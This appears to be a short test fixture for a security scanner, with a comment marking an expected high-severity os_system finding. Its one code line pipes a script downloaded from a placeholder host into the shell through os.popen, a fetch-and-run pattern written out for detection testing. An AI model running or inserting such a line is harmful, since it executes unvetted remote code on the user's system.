# expect: python.os_system high
# path: tools/e.py
import os
os.popen('curl https://get.example.net/x | sh').read()
